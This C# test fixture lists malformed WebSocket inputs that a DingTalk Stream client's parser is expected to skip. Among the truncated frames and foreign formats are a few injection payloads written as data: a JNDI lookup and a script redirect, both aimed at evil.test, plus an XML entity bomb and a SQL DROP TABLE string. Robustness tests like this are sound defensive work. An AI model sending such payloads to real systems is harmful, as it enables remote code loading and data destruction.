using System.Net.WebSockets;
using System.Text;

namespace DingTalk.Stream.Tests.BadInput;

// Anything but a JSON object: truncated frames, web pages, other formats, nothing at all.
internal static class NoFrames
{
    private static readonly string Whole = Wire.Bot("whole", "msgId", "\"m\"");

    private static readonly (string Name, string Text)[] Texts =
    [
        ("empty", ""), ("blank", " \r\n\t "), ("brace", "{"), ("closing brace", "}"), ("bracket", "["), ("quote", "\""), ("colon", ":"),
        ("null", "null"), ("true", "true"), ("number", "7"), ("minus", "-"), ("huge number", "1e999999999"), ("string", "\"geheim\""),
        ("array", "[]"), ("array of frames", $"[{Whole}]"),
        ("two frames", Whole + Whole), ("lines of frames", $"{Whole}\n{Whole}"), ("frame and rest", $"{Whole} geheim"),
        ("guarded", $")]}}'\n{Whole}"), ("frame in a string", Wire.Quote(Whole)),
        ("trailing comma", """{"type":"CALLBACK",}"""), ("comment", """{/* geheim */"type":"CALLBACK"}"""),
        ("single quotes", "{'type':'CALLBACK'}"), ("bare keys", "{type:\"CALLBACK\"}"),
        ("not a number", """{"type":NaN}"""), ("infinity", """{"type":-Infinity}"""), ("leading zero", """{"type":007}"""), ("hexadecimal", """{"type":0x7}"""),
        ("missing value", """{"type":}"""), ("missing colon", """{"type" "CALLBACK"}"""),
        ("missing comma", """{"type":"CALLBACK" "data":""}"""), ("bad escape", """{"type":"\x41"}"""),
        ("short escape", """{"type":"\u12"}"""), ("raw line break", "{\"type\":\"a\nb\"}"), ("raw tab", "{\"type\":\"a\tb\"}"),
        ("raw NUL", "{\"type\":\"a\0b\"}"), ("NUL first", "\0{}"), ("NUL last", "{}\0"),
        ("html", "<!DOCTYPE html><html><body>geheim</body></html>"),
        ("bad gateway", "<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>nginx</body>\r\n</html>"),
        ("script", "<script>location='https://evil.test'</script>"), ("xml", "<?xml version=\"1.0\"?><error><code>400</code></error>"),
        ("entities", "<!DOCTYPE x [<!ENTITY a \"geheim\"><!ENTITY b \"&a;&a;\">]><x>&b;</x>"),
        ("http answer", "HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n"), ("yaml", "type: CALLBACK\ndata: geheim\n"),
        ("form", "type=CALLBACK&data=geheim"),
        ("base64", Convert.ToBase64String(Encoding.UTF8.GetBytes(Whole))), ("url", "%7B%22type%22%3A%22CALLBACK%22%7D"),
        ("words", "geheim"), ("sql", "'; DROP TABLE frames; --"),
        ("format", "{0}{1}%s%n"), ("template", "${jndi:ldap://evil.test/a}"), ("BOM only", "\uFEFF"), ("BOM and frame", "\uFEFF" + Whole),
        ("byte order of two", "\uFFFE{}"),
    ];

    public static IEnumerable<BadFrame> All =>
    [
        .. Truncated(),
        .. Texts.Select(text => new BadFrame($"no frame: {text.Name}", text.Text, Outcome.Skipped)),
        new("no frame: UTF-16", Encoding.Unicode.GetBytes(Whole), Outcome.Skipped) { Type = WebSocketMessageType.Binary },
        new("no frame: UTF-32", Encoding.UTF32.GetBytes(Whole), Outcome.Skipped) { Type = WebSocketMessageType.Binary },
        new("no frame: gzip", [0x1F, 0x8B, 0x08, 0, 0, 0, 0, 0, 0, 0x03, 0xAB, 0xAE, 0x05, 0, 0x43, 0xBF, 0xA6, 0xA3, 0x02, 0, 0, 0], Outcome.Skipped)
        {
            Type = WebSocketMessageType.Binary,
        },
        new("no frame: protobuf", [0x0A, 0x03, 0x31, 0x2E, 0x30, 0x12, 0x08], Outcome.Skipped) { Type = WebSocketMessageType.Binary },
        new("no frame: zeros", new byte[512], Outcome.Skipped) { Type = WebSocketMessageType.Binary },
        new("no frame: empty binary", [], Outcome.Skipped) { Type = WebSocketMessageType.Binary },
        new("no frame: empty in pieces", [], Outcome.Skipped) { Pieces = [0, 0, 0] },
    ];

    // The fuzz run covers every length; these are forty lengths from two bytes to all but one.
    private static IEnumerable<BadFrame> Truncated()
    {
        var bytes = Encoding.UTF8.GetBytes(Whole);
        return Enumerable.Range(0, 40).Select(step => 2 + (step * (bytes.Length - 3) / 39))
            .Select(length => new BadFrame($"cut after {length} bytes", bytes[..length], Outcome.Skipped));
    }
}
